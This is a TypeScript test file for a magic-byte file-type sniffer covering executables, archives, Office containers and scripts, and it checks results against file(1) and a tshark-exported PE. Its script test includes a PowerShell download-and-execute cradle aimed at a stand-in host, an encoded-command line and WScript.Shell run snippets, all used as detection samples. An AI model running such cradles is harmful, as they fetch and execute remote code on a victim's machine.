import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { sniffFileType } from './magic.js'

const REPO = path.resolve(import.meta.dirname, '../..')
const sniff = (b: Buffer) => sniffFileType(b, 0, b.length)

/** `file -b` of a path, as the peer tool's opinion. */
function fileTool(p: string): string {
  return execFileSync('file', ['-b', p], { encoding: 'utf8' })
}

test('ELF: /bin/true agrees with file(1) on class and e_type', () => {
  const head = readFileSync('/bin/true').subarray(0, 1024)
  const r = sniff(head)
  assert.equal(r.type, 'elf')
  const f = fileTool('/bin/true')
  const cls = f.includes('64-bit') ? 'elf64' : 'elf32'
  const kind = /pie executable|shared object/.test(f) ? 'dyn' : f.includes('executable') ? 'exec' : '?'
  assert.equal(r.detail, `${cls}-${kind}`)
})

test('PE: the real PE32 exported by tshark from pcaps/http/wget-pe.pcap, and a PE32+ DLL flag', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'magic-'))
  try {
    execFileSync('tshark', ['-r', path.join(REPO, 'pcaps/http/wget-pe.pcap'), '-q', '--export-objects', `http,${dir}`])
    const exe = path.join(dir, 't32.exe')
    const buf = readFileSync(exe)
    assert.match(fileTool(exe), /^PE32 executable/)
    assert.deepEqual(sniff(buf.subarray(0, 1024)), { type: 'pe', detail: 'pe32' })
    // Same file with the optional header magic set to PE32+ and IMAGE_FILE_DLL set.
    const b = Buffer.from(buf.subarray(0, 1024))
    const pe = b.readUInt32LE(0x3c)
    b.writeUInt16LE(0x20b, pe + 24)
    b.writeUInt16LE(b.readUInt16LE(pe + 22) | 0x2000, pe + 22)
    assert.deepEqual(sniff(b), { type: 'pe', detail: 'pe32+-dll' })
    // MZ alone is not a confirmed PE: break the PE signature, or point e_lfanew past the bytes.
    const noPe = Buffer.from(buf.subarray(0, 1024))
    noPe.write('XX', pe)
    assert.deepEqual(sniff(noPe), { type: 'unknown', detail: 'mz-dos' })
    const far = Buffer.from(buf.subarray(0, 1024))
    far.writeUInt32LE(5000, 0x3c)
    assert.deepEqual(sniff(far), { type: 'unknown', detail: 'mz-unverified' })
    assert.deepEqual(sniff(Buffer.from('MZ')), { type: 'unknown', detail: 'mz-unverified' })
  } finally {
    rmSync(dir, { recursive: true, force: true })
  }
})

function zipEntry(name: string, data = Buffer.alloc(0)): Buffer {
  const h = Buffer.alloc(30)
  h.writeUInt32LE(0x04034b50, 0) // local file header signature
  h.writeUInt16LE(20, 4) // version needed
  h.writeUInt16LE(0, 6) // flags (no data descriptor)
  h.writeUInt32LE(data.length, 18) // compressed size
  h.writeUInt32LE(data.length, 22) // uncompressed size
  h.writeUInt16LE(Buffer.byteLength(name), 26) // name length
  h.writeUInt16LE(0, 28) // extra length
  return Buffer.concat([h, Buffer.from(name), data])
}

test('ZIP family: JAR by META-INF/, APK by AndroidManifest.xml after other entries, plain zip', () => {
  assert.equal(sniff(zipEntry('META-INF/MANIFEST.MF', Buffer.from('Manifest-Version: 1.0\n'))).type, 'jar')
  const apk = Buffer.concat([zipEntry('META-INF/'), zipEntry('res/a.png', Buffer.alloc(40)), zipEntry('classes.dex')])
  assert.equal(sniff(apk).type, 'apk')
  assert.equal(sniff(zipEntry('readme.txt', Buffer.from('hi'))).type, 'zip')
  assert.deepEqual(sniff(zipEntry('[Content_Types].xml')), { type: 'zip', detail: 'ooxml' })
  // Debian's Java packages (when installed): every jar in /usr/share/java is a JAR by its first local headers.
  const dir = '/usr/share/java'
  const jars = existsSync(dir)
    ? readdirSync(dir)
        .filter((f) => f.endsWith('.jar'))
        .slice(0, 25)
    : []
  for (const j of jars) assert.equal(sniff(readFileSync(path.join(dir, j)).subarray(0, 1024)).type, 'jar', j)
})

test('Mach-O fat vs Java class by nfat_arch, thin Mach-O, DEX', () => {
  assert.deepEqual(sniff(Buffer.from('cafebabe00000002', 'hex')), { type: 'macho', detail: 'macho-fat' })
  // Java 17 class file: minor 0, major 61 → the u32 at 4 is 0x3d, above 0x20.
  assert.deepEqual(sniff(Buffer.from('cafebabe0000003d', 'hex')), { type: 'class', detail: 'java-major-61' })
  assert.deepEqual(sniff(Buffer.from('cffaedfe07000001', 'hex')), { type: 'macho', detail: 'macho64' })
  assert.deepEqual(sniff(Buffer.from('feedface00000007', 'hex')), { type: 'macho', detail: 'macho32' })
  assert.equal(sniff(Buffer.from('6465780a30333500', 'hex')).type, 'dex')
})

test('containers and documents by signature', () => {
  assert.equal(sniff(gzipSync(Buffer.from('hello'))).type, 'gzip')
  assert.equal(sniff(Buffer.from('4d53434600000000', 'hex')).type, 'cab')
  assert.equal(sniff(Buffer.from('4c0000000114020000000000c000000000000046', 'hex')).type, 'lnk')
  assert.equal(sniff(Buffer.from('526172211a0700', 'hex')).type, 'rar')
  assert.equal(sniff(Buffer.from('377abcaf271c0004', 'hex')).type, '7z')
  assert.equal(sniff(Buffer.from('%PDF-1.7\n')).type, 'pdf')
  const ole = Buffer.alloc(1024)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(ole)
  ole.writeUInt16LE(9, 0x1e) // sector shift 512
  ole.writeUInt32LE(0, 0x30) // first directory sector 0 → root entry at 512
  assert.deepEqual(sniff(ole), { type: 'ole', detail: 'cfb' })
  Buffer.from('84100c0000000000c000000000000046', 'hex').copy(ole, 512 + 0x50) // MSI root CLSID
  assert.equal(sniff(ole).type, 'msi')
  assert.deepEqual(sniff(Buffer.from('89504e470d0a1a0a', 'hex')), { type: 'unknown', detail: 'png' })
})

test('scripts: shebangs, batch, PowerShell, HTA, VBS, JScript; plain HTML and text are not scripts', () => {
  const s = (t: string) => sniff(Buffer.from(t))
  assert.deepEqual(s('#!/bin/sh\necho hi\n'), { type: 'script', detail: 'shell' })
  assert.deepEqual(s('#!/usr/bin/env bash\n'), { type: 'script', detail: 'shell' })
  assert.deepEqual(s('#!/usr/bin/env python3\n'), { type: 'script', detail: 'python' })
  assert.deepEqual(s('#!/usr/bin/perl -w\n'), { type: 'script', detail: 'perl' })
  assert.deepEqual(s('#!/usr/bin/env node\n'), { type: 'script', detail: 'node' })
  assert.deepEqual(s('@echo off\r\nstart calc\r\n'), { type: 'script', detail: 'batch' })
  assert.deepEqual(s('$c = New-Object Net.WebClient; IEX $c.DownloadString("http://x")'), {
    type: 'script',
    detail: 'powershell',
  })
  assert.deepEqual(s('powershell -EncodedCommand SQBFAFgA'), { type: 'script', detail: 'powershell' })
  assert.deepEqual(s('<html><head><HTA:APPLICATION id="x"/></head></html>'), { type: 'script', detail: 'hta' })
  assert.deepEqual(s('Dim o\nSet o = CreateObject("WScript.Shell")\no.Run "calc"\n'), { type: 'script', detail: 'vbs' })
  assert.deepEqual(s('var sh = new ActiveXObject("WScript.Shell"); sh.Run("calc");'), {
    type: 'script',
    detail: 'jscript',
  })
  assert.deepEqual(s('<!DOCTYPE html>\n<html><script>document.write(1)</script></html>'), {
    type: 'text',
    detail: 'html',
  })
  assert.deepEqual(s('NCSA Anonymous FTP Server General Information\n'), { type: 'text' })
  assert.deepEqual(sniff(Buffer.from([0, 1, 2, 3, 0xff, 0xfe, 0x80])), { type: 'unknown' })
  assert.deepEqual(sniff(Buffer.alloc(0)), { type: 'unknown', detail: 'empty' })
})

test('every prefix and random bytes: never throws, never reads past end', () => {
  const samples = [
    readFileSync('/bin/true').subarray(0, 512),
    zipEntry('META-INF/MANIFEST.MF'),
    Buffer.from('#!/bin/sh\n'),
  ]
  for (const s of samples) for (let n = 0; n <= s.length; n++) sniffFileType(s, 0, n)
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 600 }), fc.nat(600), (a, cut) => {
      const b = Buffer.from(a)
      const end = Math.min(cut, b.length)
      const r1 = sniffFileType(b, 0, end)
      // Bytes after `end` must not change the answer.
      const c = Buffer.concat([b.subarray(0, end), Buffer.alloc(64, 0x41)])
      assert.deepEqual(sniffFileType(c, 0, end), r1)
    }),
    { numRuns: 500 },
  )
})
